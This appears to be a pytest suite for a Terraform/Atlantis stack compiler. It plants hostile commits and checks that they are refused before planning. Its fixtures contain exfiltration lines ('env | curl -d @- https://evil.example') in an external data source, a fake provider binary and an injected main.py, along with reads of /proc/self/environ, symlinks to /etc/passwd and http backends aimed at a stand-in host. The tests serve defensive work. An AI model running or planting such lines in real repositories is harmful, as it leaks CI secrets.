"""Attacks on the plan, planted as a hostile contributor would: commits on top of a repository that holds the example
registry, its output and this very compiler. `check-stacks` reads each commit's git tree (what the pull request
committed, never a working folder) and refuses it before `terraform init`, with a clear message and no traceback."""

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from modules.outputs.atlantis import atlantis_yaml
from modules.plan.layout import plan
from modules.registry.validate import load_registry
from tests.helpers import EXAMPLE, TESTS

ROOT = TESTS.parent
STACK = "generated/stacks/pricing-dev"


def git(root, *args):
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True).stdout.strip()


@pytest.fixture(scope="module")
def repo(tmp_path_factory, example_out):
    root = tmp_path_factory.mktemp("planted")
    shutil.copytree(EXAMPLE, root / "registry")
    shutil.copytree(example_out / "stacks", root / "generated" / "stacks")
    shutil.copytree(ROOT / "modules", root / "modules", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copyfile(ROOT / "pyproject.toml", root / "pyproject.toml")
    (root / "main.py").write_text((ROOT / "main.py").read_text())
    (root / "atlantis.yaml").write_text(atlantis_yaml(plan(load_registry(EXAMPLE)), "generated/stacks"))
    git(root, "init", "-q", "-b", "main")
    git(root, "-c", "user.name=t", "-c", "user.email=t@example.com", "add", "-A")
    git(root, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "base")
    return root


def plant(root: Path, change) -> str:
    """A commit on top of main with change(root) applied; the working tree is main again afterwards."""
    git(root, "checkout", "-q", "--detach", "main")
    change(root)
    git(root, "add", "-A")
    git(root, "-c", "user.name=evil", "-c", "user.email=e@example.com", "commit", "-qm", "planted", "--allow-empty")
    sha = git(root, "rev-parse", "HEAD")
    git(root, "checkout", "-q", "-f", "main")
    git(root, "clean", "-qfdx")
    return sha


def check(run_cli, root, sha, *extra):
    code, out, err = run_cli(["check-stacks", "--repo", str(root), "--rev", sha, *extra])
    assert "Traceback" not in err
    return code, out, err


def _edit_json(rel, change):
    def do(root):
        path = root / rel
        doc = json.loads(path.read_text())
        change(doc)
        path.write_text(json.dumps(doc, indent=2))

    return do


def _edit_text(rel, old, new):
    def do(root):
        path = root / rel
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))

    return do


def test_the_compilers_own_output_passes_and_equals_its_rebuild(repo, run_cli):
    code, out, err = check(run_cli, repo, "main")
    assert (code, err) == (0, "")
    assert out == "check-stacks: 20 stack(s) hold only what the compiler emits, and equal this compiler's build of the commit's registry\n"


PLUGIN = ".terraform/providers/registry.terraform.io/hashicorp/aws/6.69.1/linux_amd64"
EXTERNAL = '{"data": {"external": {"x": {"program": ["sh", "-c", "env | curl -d @- https://evil.example"]}}}, '
ATTACKS = [
    (
        "a repeated key hides a data source",
        _edit_text(f"{STACK}/cdk.tf.json", "{", "{" + EXTERNAL[1:-2] + ", "),
        'repeats the key "data"',
    ),
    (
        "a second terraform block with an http backend",
        _edit_text(f"{STACK}/cdk.tf.json", "{", '{"terraform": {"backend": {"http": {"address": "https://evil.example"}}}, '),
        'repeats the key "terraform"',
    ),
    (
        "an array in a block position",
        _edit_json(f"{STACK}/cdk.tf.json", lambda d: d.update({"data": [{"external": {"x": {"program": ["sh"]}}}]})),
        '"pricing-dev": data: a JSON list where the compiler writes an object of blocks',
    ),
    (
        "the environment printed through an output",
        _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["output"].update({"x": {"value": '${base64encode(file("/proc/self/environ"))}'}})),
        'an expression calls "base64encode"()',
    ),
    (
        "state read over http",
        _edit_json(
            f"{STACK}/cdk.tf.json",
            lambda d: d["data"]["terraform_remote_state"]["identity"].update(
                {"backend": "http", "config": {"address": "https://evil.example"}}
            ),
        ),
        'data terraform_remote_state.identity.backend: "http" where the compiler writes "s3"',
    ),
    (
        "a provider through a proxy",
        _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["provider"]["aws"][0].update({"http_proxy": "http://evil", "insecure": True})),
        'provider.aws[0]."http_proxy": not allowed',
    ),
    (
        "a committed .terraform with a provider binary and its lock file",
        lambda root: (
            (root / STACK / PLUGIN).mkdir(parents=True),
            (root / STACK / PLUGIN / "terraform-provider-aws").write_text("#!/bin/sh\nenv | curl -d @- https://evil.example\n"),
            (root / STACK / ".terraform.lock.hcl").write_text('provider "registry.terraform.io/hashicorp/aws" {}\n'),
        ),
        '"pricing-dev": ".terraform" is a folder; a stack folder holds exactly one plain file, cdk.tf.json',
    ),
    (
        "the lock file alone",
        lambda root: (root / STACK / ".terraform.lock.hcl").write_text('provider "registry.terraform.io/hashicorp/aws" {}\n'),
        '"pricing-dev": ".terraform.lock.hcl" is a file; a stack folder holds exactly one plain file',
    ),
    (
        "another Terraform file",
        lambda root: (root / STACK / "evil.tf").write_text('data "external" "x" { program = ["sh"] }\n'),
        '"pricing-dev": "evil.tf" is a file',
    ),
    (
        "the stack file as a symlink",
        lambda root: ((root / STACK / "cdk.tf.json").unlink(), os.symlink("/etc/passwd", root / STACK / "cdk.tf.json")),
        '"pricing-dev": "cdk.tf.json" is a symlink',
    ),
    (
        "the stack folder as a symlink",
        lambda root: (shutil.rmtree(root / STACK), os.symlink("../../registry", root / STACK)),
        'generated/stacks/"pricing-dev": a symlink where only stack folders may be',
    ),
    (
        "an executable stack file",
        lambda root: (root / STACK / "cdk.tf.json").chmod(0o755),
        '"pricing-dev": "cdk.tf.json" is a executable file',
    ),
    (
        "a hostile folder name",
        lambda root: shutil.copytree(root / STACK, root / "generated/stacks/x` <!--"),
        '"x\\u0060 <!--": not a stack the registry derives',
    ),
    (
        "a registry file linked to a secret",
        lambda root: (
            (root / "registry/teams/pricing.yaml").unlink(),
            os.symlink("/proc/self/environ", root / "registry/teams/pricing.yaml"),
        ),
        "check-stacks: the commit's registry holds a link that leaves it",
    ),
    (
        "an invalid registry",
        _edit_text("registry/teams/pricing.yaml", "status: active", "status: activ"),
        "check-stacks: the commit's registry is invalid: nothing may be planned",
    ),
]


@pytest.mark.parametrize("what, change, message", ATTACKS, ids=[a[0] for a in ATTACKS])
def test_planted_attacks_are_refused_before_anything_is_planned(repo, run_cli, what, change, message):
    code, out, err = check(run_cli, repo, plant(repo, change))
    assert code == 1 and out == "", err
    assert message in err, err
    assert "x` <!--" not in err and "\n::" not in err, "a name from the pull request is never shown raw"


def test_the_whole_commit_includes_its_atlantis_yaml_and_main_py_is_no_part_of_the_compiler(repo, run_cli):
    """A planted atlantis.yaml is refused by the whole-commit check (Atlantis's pre-workflow hook, the plan's check
    job); a main.py of the pull request's own is not the compiler: nothing with a credential runs it, and the
    commit's stacks are still compared with the rebuild (tests/delivery/test_workflows.py and
    test_atlantis_config.py check that no step runs it)."""
    code, _, err = check(run_cli, repo, plant(repo, _edit_text("atlantis.yaml", "projects:", "workflows: {x: {}}\nprojects:")))
    assert code == 1 and "atlantis.yaml: differs from what the registry compiles to" in err
    evil_main = _edit_text("main.py", "import os\n", "import os\nos.system('env | curl -d @- https://evil.example')\n")
    code, out, err = check(run_cli, repo, plant(repo, evil_main))
    assert (code, err) == (0, "") and "and equal this compiler's build" in out


def test_a_stack_edited_by_hand_differs_from_the_rebuild(repo, run_cli):
    """Without a compiler change, the stacks must be exactly what the registry compiles to: even a shape the
    allow-list accepts (a changed tag value) is refused."""
    sha = plant(repo, _edit_text(f"{STACK}/cdk.tf.json", '"company": "northwind"', '"company": "northwind-x"'))
    code, _, err = check(run_cli, repo, sha)
    assert code == 1 and '"pricing-dev": differs from what the registry compiles to' in err


def test_a_pull_request_that_changes_the_compiler_is_held_to_the_allow_list(repo, run_cli):
    touch = _edit_text("modules/base/naming.py", '"""', '"""A harmless edit. ')
    code, out, _ = check(run_cli, repo, plant(repo, touch))
    assert code == 0 and "the commit changes the compiler: modules/base/naming.py; not compared with a rebuild" in out
    external = _edit_json(f"{STACK}/cdk.tf.json", lambda d: d["data"].update({"external": {}}))
    planted = plant(repo, lambda root: (touch(root), external(root)))
    code, _, err = check(run_cli, repo, planted)
    assert code == 1 and 'data source "external" is not allowed' in err
    bumped = plant(repo, _edit_text("pyproject.toml", '"pyyaml==6.0.3"', '"pyyaml==6.0.2"'))
    assert "pyproject.toml (the compiler's pinned dependencies)" in check(run_cli, repo, bumped)[1]


ATLANTIS_ENV = {"PROJECT_NAME": "pricing-dev", "REPO_REL_DIR": STACK, "WORKSPACE": "default", "COMMENT_ARGS": ""}


@pytest.mark.parametrize(
    "env, change, message",
    [
        ({}, None, None),
        ({"PROJECT_NAME": "evil", "REPO_REL_DIR": "evil"}, None, 'Atlantis project "evil" is not a stack the registry derives'),
        ({"REPO_REL_DIR": "registry"}, None, 'Atlantis project "pricing-dev" runs in "registry", not in its stack folder'),
        ({"WORKSPACE": "x"}, None, 'uses workspace "x"'),
        ({"COMMENT_ARGS": "-var-file=/proc/self/environ"}, None, "extra Terraform arguments from a comment"),
        ({}, _edit_text("atlantis.yaml", "projects:", "workflows: {x: {}}\nprojects:"), "atlantis.yaml: differs from what the registry"),
    ],
    ids=["its-own-project", "a-project-of-its-own", "another-folder", "another-workspace", "comment-arguments", "atlantis-yaml-edited"],
)
def test_an_atlantis_step_checks_its_project_and_atlantis_yaml(repo, run_cli, monkeypatch, env, change, message):
    for key, value in {**ATLANTIS_ENV, **env}.items():
        monkeypatch.setenv(key, value)
    sha = plant(repo, change) if change else "main"
    code, out, err = check(run_cli, repo, sha, "--atlantis")
    if message is None:
        assert (code, err) == (0, "") and out.startswith("check-stacks: 1 stack(s) hold only what the compiler emits, and equal")
    else:
        assert code == 1 and message in err, err


def test_with_a_changed_compiler_atlantis_yaml_may_hold_only_what_the_compiler_writes(repo, run_cli, monkeypatch):
    for key, value in ATLANTIS_ENV.items():
        monkeypatch.setenv(key, value)
    touch = _edit_text("modules/base/naming.py", '"""', '"""A harmless edit. ')
    edits = [
        ("projects:", "workflows: {registry: {plan: {steps: [{run: sh evil.sh}]}}}\nprojects:", 'key "workflows" is not one the compiler'),
        (f"  dir: {STACK}\n", f"  dir: {STACK}\n  terraform_version: 0.12.0\n", '"terraform_version"'),
        ("  dir: generated/stacks/pricing-dev\n", "  dir: evil\n", "is not a stack of the registry in its own folder"),
        ("projects:", "autodiscover: {mode: enabled}\nprojects:", 'key "autodiscover"'),
    ]
    for old, new, message in edits:
        sha = plant(repo, lambda root, old=old, new=new: (touch(root), _edit_text("atlantis.yaml", old, new)(root)))
        code, _, err = check(run_cli, repo, sha, "--atlantis")
        assert code == 1 and message in err, (new, err)
